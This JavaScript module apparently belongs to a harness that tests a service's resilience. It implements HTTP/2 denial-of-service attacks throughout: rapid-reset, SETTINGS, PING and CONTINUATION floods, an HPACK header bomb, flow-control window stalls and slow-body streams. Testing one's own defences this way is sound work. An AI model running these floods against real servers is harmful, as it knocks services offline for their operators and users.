/** Frames and streams of HTTP/2 that cost the service more than whoever sends them: RFC 9113 section 10.5. */

import { setTimeout as sleep } from 'node:timers/promises';
import {
  begin,
  endHeaders,
  endStream,
  frame,
  openWindow,
  requestBlock,
  types,
  uint32,
} from '../http2-frames.js';

const flags = ['--h2c'];
const whole = endHeaders | endStream;
const maxWindow = 2 ** 31 - 1;
const streamsEach = 100;

/** No proxy lets them through as they are, and frames come before accounts. */
const isFor = (/** @type {import('../attacker.js').Mode} */ { isProxied, hasAccounts }) =>
  !isProxied && !hasAccounts;

/** @typedef {import('node:net').Socket} Socket */

/** @param {number} place */
const streamAt = (place) => 2 * place + 1;

/**
 * Sends pieces one after the other on so many connections, as fast as they are taken, and begins anew where it is
 * cut off.
 *
 * @param {import('../attacker.js').Attacker} attacker
 * @param {number} count
 * @param {(place: number) => Buffer} pieceAt
 */
async function flood(attacker, count, pieceAt) {
  async function floodOne() {
    /** @param {Socket} socket */
    function use(socket) {
      let place = 0;
      const more = () => {
        while (!socket.destroyed && !attacker.isOver() && socket.write(pieceAt(place++)));
      };
      socket.resume();
      socket.write(begin());
      socket.on('drain', more);
      more();
    }
    const [socket] = await attacker.openMany(1, use);
    if (socket?.destroyed) return;
    await Promise.race([
      new Promise((resolve) => socket?.once('close', resolve)),
      attacker.untilOver(),
    ]);
  }
  await attacker.repeat(count, floodOne);
}

/**
 * Begins streams on so many connections, and leaves what comes of them untaken.
 *
 * @param {import('../attacker.js').Attacker} attacker
 * @param {number} count
 * @param {number} window Of each stream
 * @param {Buffer} head
 */
async function beginStreams(attacker, count, window, head) {
  const heads = Buffer.concat(
    Array.from({ length: streamsEach }, (_, place) =>
      frame(types.headers, whole, streamAt(place), head),
    ),
  );
  return attacker.openMany(count, (socket) => {
    socket.pause();
    socket.write(Buffer.concat([begin(window), openWindow(0, maxWindow - 65_535), heads]));
  });
}

/** @param {(place: number) => Buffer} make @param {number} [count] */
const batch =
  (make, count = 50) =>
  (/** @type {number} */ turn) =>
    Buffer.concat(Array.from({ length: count }, (_, place) => make(turn * count + place)));

const getHead = requestBlock('GET', '/api/Books?sort=title&q=a');
const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
const large = requestBlock('GET', '/openapi.json');

/**
 * Has the answer made, which is done once.
 *
 * @param {import('../attacker.js').Attacker} attacker
 */
const makeLarge = (attacker) => attacker.ask('GET', '/openapi.json');

/** Kept in the table by the first, said again by a byte in the others: 4,000 bytes, sixty times. */
const keptField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 'a'),
]);
const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);

/** @type {readonly import('../attacker.js').Attack[]} */
export const http2Attacks = [
  {
    name: 'HTTP/2: requests that are reset at once, on 20 connections',
    isFor,
    flags,
    run: (attacker) =>
      flood(
        attacker,
        20,
        batch((place) =>
          Buffer.concat([
            frame(types.headers, whole, streamAt(place), getHead),
            frame(types.rstStream, 0, streamAt(place), uint32(8)),
          ]),
        ),
      ),
  },
  {
    name: 'HTTP/2: floods of SETTINGS, on 20 connections',
    isFor,
    flags,
    run: (attacker) =>
      flood(
        attacker,
        20,
        batch(() => frame(types.settings, 0, 0)),
      ),
  },
  {
    name: 'HTTP/2: floods of PING, on 20 connections',
    isFor,
    flags,
    run: (attacker) =>
      flood(
        attacker,
        20,
        batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
      ),
  },
  {
    name: 'HTTP/2: headers that go on without end, on 20 connections',
    isFor,
    flags,
    run: (attacker) =>
      flood(attacker, 20, (turn) =>
        turn === 0
          ? frame(types.headers, 0, 1, getHead)
          : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
      ),
  },
  {
    name: 'HTTP/2: headers that unpack to 240 KB, on 20 connections',
    isFor,
    flags,
    run: (attacker) =>
      flood(attacker, 20, (turn) =>
        turn === 0
          ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
          : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
      ),
  },
  {
    name: 'HTTP/2: 5,000 large answers in windows of nothing',
    isFor,
    flags,
    prepare: makeLarge,
    async run(attacker) {
      await beginStreams(attacker, 50, 0, large);
      await attacker.untilOver();
    },
  },
  {
    name: 'HTTP/2: 5,000 large answers in windows that open by a byte',
    isFor,
    flags,
    prepare: makeLarge,
    async run(attacker) {
      const sockets = await beginStreams(attacker, 50, 0, large);
      const crumbs = Buffer.concat(
        Array.from({ length: streamsEach }, (_, place) => openWindow(streamAt(place), 1)),
      );
      for (const socket of sockets) {
        const more = () => {
          while (!socket.destroyed && !attacker.isOver() && socket.write(crumbs));
        };
        socket.resume();
        socket.on('drain', more);
        more();
      }
      await attacker.untilOver();
    },
  },
  {
    name: 'HTTP/2: 5,000 large answers on 50 connections that are not read',
    isFor,
    flags,
    prepare: makeLarge,
    async run(attacker) {
      await beginStreams(attacker, 50, maxWindow, large);
      await attacker.untilOver();
    },
  },
  {
    name: 'HTTP/2: 5,000 WebSockets on 50 connections that take nothing',
    isFor,
    flags,
    async run(attacker) {
      const path = '/api/ws/push?interval=0&size=60000&count=1000';
      const head = requestBlock('CONNECT', path, {
        ':protocol': 'websocket',
        'sec-websocket-version': '13',
      });
      const heads = Array.from({ length: streamsEach }, (_, place) =>
        frame(types.headers, endHeaders, streamAt(place), head),
      );
      await attacker.openMany(50, (socket) => {
        socket.resume();
        socket.write(Buffer.concat([begin(0), ...heads]));
      });
      await attacker.untilOver();
    },
  },
  {
    name: 'HTTP/2: 5,000 bodies of a byte every two seconds',
    seconds: 45,
    isFor,
    flags,
    async run(attacker) {
      /** @type {Set<string>} */
      const open = new Set();
      const sockets = await attacker.openMany(50, (socket, index) => {
        for (let place = 0; place < streamsEach; place++) open.add(`${index} ${streamAt(place)}`);
        watchStreams(socket, (stream) => open.delete(`${index} ${stream}`));
        const heads = Array.from({ length: streamsEach }, (_, place) =>
          frame(types.headers, endHeaders, streamAt(place), postHead),
        );
        socket.write(Buffer.concat([begin(), ...heads]));
      });
      while (!attacker.isOver()) {
        for (const [index, socket] of sockets.entries()) {
          for (let place = 0; place < streamsEach; place++) {
            const stream = streamAt(place);
            if (socket.destroyed || !open.has(`${index} ${stream}`)) continue;
            socket.write(frame(types.data, 0, stream, Buffer.from('x')));
          }
        }
        await sleep(2000);
      }
      // A short run ends before they are too slow.
      if (attacker.isShort || open.size === 0) return [];
      return [`${open.size} bodies slower than 1 KiB/s for 30 s were not cut`];
    },
  },
];

/**
 * Tells each stream that the service ends.
 *
 * @param {Socket} socket
 * @param {(stream: number) => void} onEnd
 */
function watchStreams(socket, onEnd) {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    rest = Buffer.concat([rest, /** @type {Buffer} */ (chunk)]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const [type, bits = 0] = [rest[3], rest[4]];
      const isLast =
        type === types.data || type === types.headers ? (bits & endStream) !== 0 : false;
      if (isLast || type === types.rstStream) onEnd(rest.readUInt32BE(5));
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  });
}
